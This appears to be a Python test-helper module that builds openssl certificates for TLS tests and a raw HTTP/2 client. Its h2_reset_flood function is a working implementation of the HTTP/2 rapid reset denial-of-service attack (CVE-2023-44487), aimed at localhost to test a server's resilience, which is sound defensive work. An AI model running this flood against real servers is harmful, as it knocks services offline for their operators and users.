"""Certificates made with openssl for the TLS tests, and a raw HTTP/2 client small
enough to send what no well-behaved library would (a stream reset flood)."""
import socket
import ssl
import struct
import subprocess
from pathlib import Path


def _openssl(*args):
    subprocess.run(["openssl", *args], check=True, capture_output=True, timeout=60)


def make_ca(d, name="ca"):
    d = Path(d)
    d.mkdir(parents=True, exist_ok=True)
    key, crt = d / f"{name}.key", d / f"{name}.crt"
    _openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
             "-days", "30", "-subj", f"/CN={name}", "-keyout", str(key), "-out", str(crt))
    return crt, key


def make_cert(d, ca, name, subject, server=False):
    """A certificate signed by ca (crt, key); server=True adds the 127.0.0.1/localhost SANs."""
    d = Path(d)
    key, csr, crt = d / f"{name}.key", d / f"{name}.csr", d / f"{name}.crt"
    _openssl("req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
             "-subj", subject, "-keyout", str(key), "-out", str(csr))
    ext = d / f"{name}.ext"
    ext.write_text("subjectAltName=IP:127.0.0.1,DNS:localhost\n" if server else
                   "extendedKeyUsage=clientAuth\n")
    _openssl("x509", "-req", "-in", str(csr), "-CA", str(ca[0]), "-CAkey", str(ca[1]),
             "-CAcreateserial", "-days", "30", "-extfile", str(ext), "-out", str(crt))
    return crt, key


def _frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def _literal(index, value):
    v = value.encode()
    return bytes([index, len(v)]) + v  # literal without indexing, indexed name, no Huffman


def h2_reset_flood(port, path, streams, ca_file, timeout=10):
    """Opens streams GET path and cancels each at once (CVE-2023-44487). Returns
    (streams sent, whether the server closed the connection)."""
    ctx = ssl.create_default_context(cafile=str(ca_file))
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=timeout),
                           server_hostname="localhost")
    assert sock.selected_alpn_protocol() == "h2"
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0))
    block = b"\x82\x87" + _literal(0x04, path) + _literal(0x01, "127.0.0.1")  # GET https
    sent = 0
    try:
        for i in range(streams):
            sid = 1 + 2 * i
            sock.sendall(_frame(1, 0x5, sid, block) + _frame(3, 0, sid, struct.pack(">I", 8)))
            sent += 1
        while sock.recv(65536):
            pass
        return sent, True
    except (socket.timeout, TimeoutError):
        return sent, False
    except OSError:
        return sent, True
    finally:
        sock.close()
